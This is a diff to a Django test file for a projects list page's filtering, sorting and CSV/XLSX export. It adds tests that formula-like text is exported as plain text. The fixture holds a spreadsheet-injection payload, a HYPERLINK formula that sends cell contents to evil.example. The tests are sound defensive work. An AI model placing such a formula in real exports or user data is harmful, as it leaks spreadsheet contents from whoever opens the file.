@@ -1,7 +1,9 @@
-"""/projects/: the filter form from ProjectFilterSet, sorting, paging, export."""
+"""/projects/: the filter form from ProjectFilterSet, sort links, paging, export (each filter's
+and sort key's rows: test_project_filters.py)."""
 
 import csv
 import io
+from decimal import Decimal
 from urllib.parse import parse_qs, urlparse
 
 import pytest
@@ -9,6 +11,7 @@ from openpyxl import load_workbook
 
 from projects.choices import Stage
 from projects.models import Project
+from tests.factories import ProjectFactory
 
 from .conftest import assert_valid_html
 from .helpers import listed_codes
@@ -23,15 +26,6 @@ def test_anonymous_list_shows_published_projects_only(client, site):
     codes = listed_codes(response)
     assert set(codes) == set(Project.objects.public().values_list("code", flat=True))
     assert site["hidden"].code not in codes
-
-
-def test_filter_by_district_and_stage_lists_only_matching_rows(client, site):
-    response = client.get("/projects/?district=jingkai&stage=under_construction")
-    expected = Project.objects.filter(
-        district__code="jingkai", stage=Stage.UNDER_CONSTRUCTION, is_published=True
-    ).values_list("code", flat=True)
-    assert sorted(listed_codes(response)) == sorted(expected)
-    assert expected.count() >= 1
 
 
 def test_form_fields_come_from_the_filterset(client, site):
@@ -57,13 +51,9 @@ def test_active_filters_are_shown_and_each_can_be_removed(client, site):
     assert sorted(listed_codes(after)) == sorted(expected)
 
 
-def test_sort_by_a_column_and_toggle_its_direction(client, site):
+def test_a_sorted_column_is_marked_and_its_link_toggles_the_direction(client, site):
+    """(The order of the rows for every key: test_project_filters.py.)"""
     response = client.get("/projects/?ordering=-total_investment&page_size=100")
-    codes = listed_codes(response)
-    expected = list(
-        Project.objects.public().order_by("-total_investment").values_list("code", flat=True)
-    )
-    assert codes == expected
     column = response.context["columns"]["total_investment"]
     assert column["sorted"] == "descending"
     assert parse_qs(column["query"])["ordering"] == ["total_investment"]
@@ -138,6 +128,44 @@ def test_xlsx_export_matches_the_list(client, site):
     assert values[0][0] == "项目代码"
     assert [row[0] for row in values[1:]] == listed_codes(page)
     assert all(isinstance(row[9], (int, float)) for row in values[1:])
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "location": "@SUM(1+1)",
+}
+
+
+@pytest.fixture
+def formula_project(site):
+    return ProjectFactory(
+        code="formula",
+        district=site["districts"][0],
+        name=FORMULAS["name"],
+        location=FORMULAS["location"],
+        total_investment=Decimal("1000.00"),
+    )
+
+
+def test_csv_export_keeps_formula_like_text_as_text(client, formula_project):
+    response = client.get("/projects/export.csv?search=formula")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    [header, row] = list(csv.reader(io.StringIO(text)))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["项目名称"] == "'" + FORMULAS["name"]
+    assert cells["建设地点"] == "'" + FORMULAS["location"]
+    assert cells["总投资（万元）"] == "1000.00"
+
+
+def test_xlsx_export_keeps_formula_like_text_as_text(client, formula_project):
+    response = client.get("/projects/export.xlsx?search=formula")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    for column, text in (("项目名称", FORMULAS["name"]), ("建设地点", FORMULAS["location"])):
+        assert cells[column].value == text
+        assert cells[column].data_type == "s" and cells[column].quotePrefix
+    assert cells["总投资（万元）"].data_type == "n"
 
 
 def test_export_links_carry_the_filters_but_not_the_page(client, site):
